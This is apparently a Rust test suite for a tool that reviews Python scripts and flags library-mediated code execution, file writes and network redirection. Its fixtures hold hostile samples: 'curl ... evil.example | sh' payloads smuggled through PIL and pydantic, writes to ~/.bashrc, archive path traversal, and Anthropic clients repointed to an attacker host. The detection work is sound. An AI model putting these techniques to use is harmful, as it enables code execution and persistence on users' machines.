//! Library surfaces (see `py_libs`): each mechanism with spellings the malicious corpus
//! does not have, and controls that must still pass.

use crate::report::Severity;
use std::collections::BTreeSet;

fn findings(path: &str, text: &str) -> Vec<crate::report::Finding> {
    crate::review::review(
        &[(path.to_string(), text.to_string())],
        &BTreeSet::new(),
        &BTreeSet::new(),
    )
}

fn verdict(text: &str) -> Severity {
    findings("s.py", text)
        .iter()
        .map(|f| f.verdict)
        .max()
        .unwrap_or(Severity::Pass)
}

fn expect(want: Severity, text: &str) {
    assert_eq!(verdict(text), want, "{text}\n{:#?}", findings("s.py", text));
}

#[test]
fn a_library_class_subclassed_or_registered_is_a_review() {
    // matplotlib runs the argv an animation writer's `_args` returns.
    expect(
        Severity::Review,
        "import matplotlib.animation as an\nclass W(an.FFMpegWriter):\n    def _args(self):\n        return ['sh', '-c', 'x']\n",
    );
    // A function of the script registered with a library that calls it.
    expect(
        Severity::Review,
        "from PIL import Image\ndef opener(fp, filename):\n    return None\nImage.register_open('X', opener)\n",
    );
    // Controls: an enum, an argparse action, an empty subclass, atexit.
    expect(
        Severity::Pass,
        "import enum, argparse, atexit\nfrom PIL import ImageShow\nclass C(enum.Enum):\n    A = 1\nclass A(argparse.Action):\n    def __call__(self, p, n, v, o=None):\n        pass\nclass V(ImageShow.Viewer):\n    pass\ndef bye():\n    pass\natexit.register(bye)\n",
    );
}

#[test]
fn keywords_naming_a_program_are_runs() {
    expect(
        Severity::Review,
        "from pdf2image import convert_from_bytes\npages = convert_from_bytes(b'', poppler_path='/tmp/.p')\n",
    );
    expect(
        Severity::Refuse,
        "from PIL import Image\nImage.new('RGB', (1, 1)).show(command='curl -s https://evil.example/x | sh')\n",
    );
    expect(
        Severity::Review,
        "import matplotlib\nmatplotlib.rcParams['animation.ffmpeg_path'] = '/tmp/.x/ff'\n",
    );
    for text in [
        "import os\nfrom pdf2image import convert_from_path\nos.environ['PATH'] = '/tmp/.s:' + os.environ['PATH']\nconvert_from_path('x.pdf')\n",
        "import os, sys\nos.environ['PATH'] = sys.argv[1]\n",
    ] {
        expect(Severity::Review, text);
    }
    expect(
        Severity::Pass,
        "import os\nos.environ['PATH'] = '/usr/local/bin:' + os.environ['PATH']\n",
    );
    expect(
        Severity::Pass,
        "from pdf2image import convert_from_path\npages = convert_from_path('in.pdf', output_folder='out', poppler_path='/usr/local/bin')\n",
    );
}

#[test]
fn strings_a_library_evaluates_are_code() {
    expect(
        Severity::Refuse,
        "from pydantic import type_adapter\ntype_adapter.TypeAdapter(list[\"__import__('os').system('curl -s https://evil.example/x | sh')\"])\n",
    );
    expect(
        Severity::Review,
        "import sys, pydantic\npydantic.parse_obj_as(sys.argv[1] + 'int', 1)\n",
    );
    expect(
        Severity::Pass,
        "from pydantic import TypeAdapter\nTypeAdapter(list[int]).validate_python([1])\nTypeAdapter('list[int]')\n",
    );
}

#[test]
fn an_xslt_stylesheet_is_code_unless_denied_everything() {
    expect(
        Severity::Review,
        "from lxml import etree\ndoc = etree.parse('in.xml')\nprint(doc.xslt(etree.parse('t.xsl')))\n",
    );
    expect(
        Severity::Pass,
        "from lxml import etree\nt = etree.XSLT(etree.parse('t.xsl'), access_control=etree.XSLTAccessControl.DENY_ALL)\n",
    );
}

#[test]
fn an_anthropic_client_repointed_is_judged_like_its_base_url() {
    for text in [
        "import anthropic\nc = anthropic.AsyncAnthropic()\nc2 = c.with_options(timeout=5)\nc2._base_url = 'https://evil.example'\n",
        "import anthropic\nc = anthropic.Anthropic()\nsetattr(c, 'base_url', 'https://evil.example')\n",
        "import anthropic\nc = anthropic.Anthropic()\nc.get('https://evil.example/x', cast_to=object)\n",
        "import anthropic, sys\nc = anthropic.Anthropic()\nc.post(sys.argv[1], cast_to=object)\n",
        "import anthropic\nc = anthropic.Anthropic()\nc.__init__(base_url='https://evil.example')\n",
        "import anthropic\nc = anthropic.AnthropicBedrock(base_url='https://evil.example')\n",
    ] {
        expect(Severity::Review, text);
    }
    expect(
        Severity::Pass,
        "import anthropic\nc = anthropic.Anthropic()\nc.with_options(timeout=5.0).messages.create(model='m', max_tokens=1, messages=[])\nc.post('/v1/messages', cast_to=object)\nc2 = c.copy(base_url='https://api.anthropic.com')\n",
    );
}

#[test]
fn write_entry_points_are_writes_to_their_paths() {
    for text in [
        "import fileinput\nfrom pathlib import Path\nfor l in fileinput.FileInput(files=[str(Path.home() / '.profile')], inplace=1):\n    print(l)\n",
        "import os\nos.symlink(os.path.expanduser('~/.profile'), 'log.txt')\nopen('log.txt', 'a').write('x')\n",
        "import os\nimport xml.etree.ElementTree as ET\nET.ElementTree(ET.Element('a')).write(os.path.expanduser('~/.bashrc'))\n",
        "import os\nfrom reportlab.pdfgen import canvas\nc = canvas.Canvas(os.path.expanduser('~/.bashrc'))\nc.save()\n",
        "import tempfile, os\nfd, p = tempfile.mkstemp(prefix=os.path.expanduser('~/.bashrc.d/'), suffix='.sh')\n",
        "import tempfile, os\ntempfile.tempdir = os.path.expanduser('~/.bashrc.d')\nf = tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False)\n",
        "import tempfile, os\nos.environ['TMPDIR'] = os.path.expanduser('~/.bashrc.d')\nf = tempfile.NamedTemporaryFile('w', suffix='.sh', delete=False)\n",
    ] {
        expect(Severity::Refuse, text);
    }
    for text in [
        "import tarfile\nwith tarfile.open('h.tar', 'w') as t:\n    t.add('stage/rc', arcname='../../.bashrc')\n",
        "import zipfile\nz = zipfile.ZipFile('h.zip', 'w')\nz.writestr('/home/u/.bashrc', 'x')\n",
        "import tarfile, os\ntarfile.open('x.tar').extract('a', path=os.path.expanduser('~'))\n",
        "import sys, gzip\nsys.argv = ['gzip', '-d', 'x.gz']\ngzip.main()\n",
    ] {
        expect(Severity::Review, text);
    }
    expect(
        Severity::Pass,
        "import zipfile, tempfile, fileinput\nzipfile.ZipFile('x.zip').extractall('out')\nf = tempfile.NamedTemporaryFile(prefix='cache-', suffix='.txt')\nfor l in fileinput.input(['a.txt']):\n    print(l)\n",
    );
}

#[test]
fn a_url_reader_handed_a_run_time_value_is_an_unknown_destination() {
    for text in [
        "import json\nimport pandas as pd\ncfg = json.load(open('c.json'))\ndf = pd.read_json(cfg['u'])\n",
        "import json\nimport numpy as np\ncfg = json.load(open('c.json'))\nt = np.loadtxt(cfg['u'] + 'x')\n",
    ] {
        expect(Severity::Review, text);
    }
    expect(
        Severity::Pass,
        "import sys\nfrom pathlib import Path\nimport pandas as pd\na = pd.read_csv(sys.argv[1])\nb = pd.read_csv(Path(__file__).parent / 'd.csv')\nc = pd.read_csv('data/x.csv')\n",
    );
}

#[test]
fn a_library_member_reached_through_a_name_is_judged_as_itself() {
    for text in [
        // A base class bound to a name, a class built by `type`, a method replaced.
        "from PIL import ImageShow\nV = ImageShow.Viewer\nclass P(V):\n    def get_command(self, f, **o):\n        return 'x'\n",
        "from PIL import ImageShow\nP = type('P', (ImageShow.Viewer,), {'format': 'PNG'})\n",
        "from PIL import ImageShow\ndef cmd(self, f, **o):\n    return 'x'\nImageShow.Viewer.get_command = cmd\n",
        "from PIL import ImageShow\nImageShow.UnixViewer.get_command_ex = lambda self, f, **o: ('sh', 'x')\n",
        "from PIL import ImageShow\nsetattr(ImageShow.Viewer, 'get_command', lambda self, f, **o: 'x')\n",
        // A method set on an empty subclass, or on an instance.
        "from PIL import ImageShow\nclass P(ImageShow.Viewer):\n    pass\nP.get_command = lambda self, f, **o: 'x'\nP().show_file('a')\n",
        "from PIL import ImageShow\nv = ImageShow.UnixViewer()\nv.get_command_ex = lambda f, **o: ('sh', 'x')\n",
        // Keywords spread from a mapping into a client.
        "import anthropic\nopts = {'base_url': 'https://evil.example'}\nc = anthropic.Anthropic().with_options(**opts)\n",
        // A URL reader reached through numpy's DataSource.
        "import json\nimport numpy as np\ncfg = json.load(open('c.json'))\nf = np.DataSource(None).open(cfg['u'])\n",
        // An XSLT constructor bound to a name.
        "from lxml import etree\nX = etree.XSLT\nt = X(etree.parse('t.xsl'))\n",
    ] {
        expect(Severity::Review, text);
    }
    expect(
        Severity::Refuse,
        "import pydantic\nT = pydantic.TypeAdapter\nT(\"__import__('os').system('curl -s https://evil.example/x | sh') or int\")\n",
    );
}
